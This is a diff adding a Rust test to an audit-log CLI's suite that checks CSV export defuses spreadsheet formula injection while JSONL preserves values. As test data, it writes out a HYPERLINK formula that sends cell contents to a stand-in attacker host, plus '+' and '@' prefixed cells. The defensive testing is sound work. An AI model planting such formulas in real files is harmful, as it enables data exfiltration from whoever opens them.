@@ -6,7 +6,7 @@ use std::str::FromStr;
 use serde_json::Value;
 
 use crate::harness::*;
-use crate::lookups::{structured_events, write_events};
+use crate::lookups::{Event, structured_events, write_events};
 use crate::support::http::Request;
 use crate::support::*;
 
@@ -121,6 +121,54 @@ async fn jsonl_prints_the_models_item_line_of_the_stored_item_in_a_lookup_a_time
         .await;
         assert_eq!(row, audit_model::line::item_line(&stored));
     }
+}
+
+#[tokio::test]
+async fn a_csv_export_runs_no_formula_a_producer_wrote_and_jsonl_keeps_the_value_exactly() {
+    let moto = Moto::start();
+    let actor = r#"=HYPERLINK("http://attacker.example/?d="&A1,"open")"#;
+    write_events(
+        &moto,
+        &[Event {
+            id: "formula-1".into(),
+            time: "2026-11-23T12:00:00Z".into(),
+            actor: Some(actor.into()),
+            action: Some("+user.login".into()),
+            resource: Some("@invoice/1".into()),
+            outcome: Some("success"),
+            source_ip: None,
+        }],
+    )
+    .await;
+    let range = [
+        "--from",
+        "2026-11-23T12:00:00Z",
+        "--to",
+        "2026-11-23T12:00:00Z",
+    ];
+    let csv = ok(auditctl(
+        &moto.endpoint,
+        &[&["query", "--format", "csv"][..], &range].concat(),
+        &[],
+    ));
+    let row = csv.split("\r\n").nth(1).unwrap_or_else(|| panic!("{csv}"));
+    assert!(
+        row.contains(r#","'=HYPERLINK(""http://attacker.example/?d=""&A1,""open"")","#),
+        "the actor's cell starts with a quote: {row}"
+    );
+    assert!(row.contains(",'+user.login,'@invoice/1,"), "{row}");
+    assert!(
+        !row.contains(",=") && !row.contains(",\"=") && !row.contains(",+") && !row.contains(",@"),
+        "{row}"
+    );
+    let jsonl = ok(auditctl(
+        &moto.endpoint,
+        &[&["query", "--format", "jsonl"][..], &range].concat(),
+        &[],
+    ));
+    let value: Value = serde_json::from_str(jsonl.lines().next().unwrap()).unwrap();
+    assert_eq!(value["actor"], actor);
+    assert_eq!(value["action"], "+user.login");
 }
 
 #[tokio::test]
